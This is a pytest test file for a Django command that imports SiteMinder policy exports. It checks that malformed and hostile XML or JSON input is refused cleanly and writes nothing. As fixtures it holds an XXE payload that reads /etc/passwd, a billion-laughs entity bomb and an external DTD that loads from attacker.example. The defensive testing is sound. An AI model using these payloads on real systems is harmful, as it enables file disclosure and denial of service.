"""Malformed and hostile exports: a non-zero exit with line and column, nothing written,
and no DTD, entity or network access ever (XXE, billion laughs)."""

from __future__ import annotations

import json

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from apps.policies.models import Application, Realm, Rule
from tests.siteminder_import.scenario import EXPORT_XML, import_export

pytestmark = pytest.mark.django_db

XXE = """<?xml version="1.0"?>
<!DOCTYPE XPSDeployment [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<XPSDeployment><Object Class="CA.SM::Agent" Xid="CA.SM::Agent@01-1">
<Property Name="CA.SM::Agent.Name"><StringValue>&secret;</StringValue></Property>
</Object></XPSDeployment>
"""
BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<XPSDeployment><Object Class="CA.SM::Agent" Xid="CA.SM::Agent@01-1">
<Property Name="CA.SM::Agent.Name"><StringValue>&lol3;</StringValue></Property>
</Object></XPSDeployment>
"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE XPSDeployment SYSTEM "http://attacker.example/evil.dtd">
<XPSDeployment/>
"""
TRUNCATED = """<?xml version="1.0"?>
<XPSDeployment>
  <Object Class="CA.SM::Agent" Xid="CA.SM::Agent@01-1">
    <Property Name="CA.SM::Agent.Name"><StringValue>a.example.com</StringValue>
  </Object>
"""


def rows() -> int:
    return Application.objects.count() + Realm.objects.count() + Rule.objects.count()


def run(tmp_path, content: str | bytes, suffix: str = ".xml") -> str:
    path = tmp_path / f"export{suffix}"
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    with pytest.raises(CommandError) as failure:
        call_command("import_siteminder", str(path))
    return str(failure.value)


@pytest.mark.parametrize("document", [XXE, BILLION_LAUGHS, EXTERNAL_DTD])
def test_a_doctype_is_refused_before_anything_is_read(tmp_path, document) -> None:
    message = run(tmp_path, document)
    assert "DOCTYPE" in message
    assert "<XPSDeployment>" not in message  # refused before the root element is looked at
    assert rows() == 0


def test_malformed_xml_names_the_line_and_column_and_writes_nothing(tmp_path) -> None:
    import_export()
    before = rows()
    message = run(tmp_path, TRUNCATED)
    assert "line 5, column" in message
    assert "malformed XML" in message
    assert rows() == before


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        ("", "malformed XML"),
        (b"\xff\xfe<garbage", "malformed XML"),
        ("<Export/>", "not <XPSDeployment>"),
        ("<XPSDeployment><Object></XPSDeployment>", "line 1, column"),
    ],
)
def test_other_broken_xml_fails_cleanly(tmp_path, content, expected) -> None:
    assert expected in run(tmp_path, content)


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        ('{"objects": [\n  {"Class": "Agent",\n  }]}', "line 3, column 3"),
        ("42", "expected a list"),
        ("[" * 5000 + "]" * 5000, "JSON"),
    ],
)
def test_broken_json_fails_cleanly(tmp_path, content, expected) -> None:
    assert expected in run(tmp_path, content, suffix=".json")


def test_a_missing_file_or_group_map_is_a_clean_error(tmp_path) -> None:
    with pytest.raises(CommandError, match="No such file"):
        call_command("import_siteminder", str(tmp_path / "absent.xml"))
    bad_map = tmp_path / "map.json"
    bad_map.write_text("[1, 2]")
    with pytest.raises(CommandError, match="group map"):
        call_command("import_siteminder", str(EXPORT_XML), "--group-map", str(bad_map))


def test_unknown_elements_and_attributes_are_reported_not_fatal(tmp_path) -> None:
    report = tmp_path / "report.json"
    import_export(EXPORT_XML, "--report", str(report))
    unknown = {entry["what"] for entry in json.loads(report.read_text())["unknown_input"]}
    assert unknown == {"unknown element <Comment>", "unknown attribute Object@Foo"}
